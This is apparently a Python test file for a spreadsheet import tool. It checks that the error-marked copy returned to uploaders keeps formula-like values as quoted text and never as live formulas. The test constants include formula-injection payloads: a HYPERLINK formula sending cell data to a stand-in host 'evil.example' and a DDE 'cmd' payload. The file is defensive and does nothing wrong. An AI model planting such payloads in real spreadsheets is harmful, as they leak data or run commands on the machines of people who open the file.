"""The error-marked copy the upload page offers back is formula-safe (issue 9): a value of the uploaded file that
starts with = + - @ and is quoted in the 错误清单 sheet, or stands in a marked sheet as text, comes out as an explicit
text cell with a quote prefix, never a formula: on the openpyxl path (small files) and the streaming path (large)."""
from __future__ import annotations

import io

import openpyxl
import pytest

from data.workbook import ImportUser, import_workbook, marked
from tests.data.fixtures_workbooks import MONTH, build_xlsx, good_tables, seed_counties

ADMIN = ImportUser("admin", "管理员")
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
PLUS, AT = "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)"


def _hostile(wb) -> None:
    """Text cells (as a spreadsheet program stores typed text) holding formula-like values: an unknown 安置点类型,
    an unknown 安置点编码 of a household, and a household name (valid, kept in its sheet)."""
    for sheet, ref, value in (("安置点", "E2", LINK), ("搬迁户", "B2", PLUS), ("搬迁户", "C3", AT)):
        cell = wb[sheet][ref]
        cell.value = value
        cell.data_type = "s"


def _upload(engine) -> bytes:
    seed_counties(engine)
    data = build_xlsx(good_tables(), post=_hostile)
    src = openpyxl.load_workbook(io.BytesIO(data))
    assert src["安置点"]["E2"].data_type == "s" and src["安置点"]["E2"].value == LINK    # the upload holds text
    res = import_workbook(engine, data, "公式.xlsx", MONTH, ADMIN)
    assert not res.ok
    quoted = {str(x.value) for x in res.messages}
    assert LINK in quoted and PLUS in quoted, quoted             # the listing quotes the hostile values
    return res.marked_copy


@pytest.mark.parametrize("path", ["openpyxl", "streaming"])
def test_marked_copy_has_no_formula_and_quotes_hostile_values_as_text(sqlite_engine, monkeypatch, path):
    if path == "streaming":
        monkeypatch.setattr(marked, "SMALL_XML", 0)
    wb = openpyxl.load_workbook(io.BytesIO(_upload(sqlite_engine)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    listing = [c for c in wb["错误清单"]["E"] if c.value in (LINK, PLUS)]
    assert {c.value for c in listing} == {LINK, PLUS}
    for c in listing:
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.data_type, c.quotePrefix)
    # the uploaded sheets keep their values, as text (marked red where wrong)
    assert wb["安置点"]["E2"].value == LINK and wb["安置点"]["E2"].data_type == "s"
    assert wb["安置点"]["E2"].fill.fgColor.rgb.endswith(marked.RED)
    assert wb["搬迁户"]["C3"].value == AT and wb["搬迁户"]["C3"].data_type == "s"
    if path == "openpyxl":
        assert wb["搬迁户"]["C3"].quotePrefix and wb["安置点"]["E2"].quotePrefix


def test_an_uploaders_own_formula_is_kept(sqlite_engine):
    """A formula the uploader wrote (with its cached value) is theirs: the copy keeps it, only text is quoted."""
    def post(wb):
        _hostile(wb)
        wb["安置点"]["J2"] = "=1+1"
    seed_counties(sqlite_engine)
    res = import_workbook(sqlite_engine, build_xlsx(good_tables(), post=post), "式.xlsx", MONTH, ADMIN)
    assert not res.ok
    wb = openpyxl.load_workbook(io.BytesIO(res.marked_copy))
    assert wb["安置点"]["J2"].data_type == "f"
    assert not [c for c in wb["错误清单"]["E"] if c.data_type == "f"]
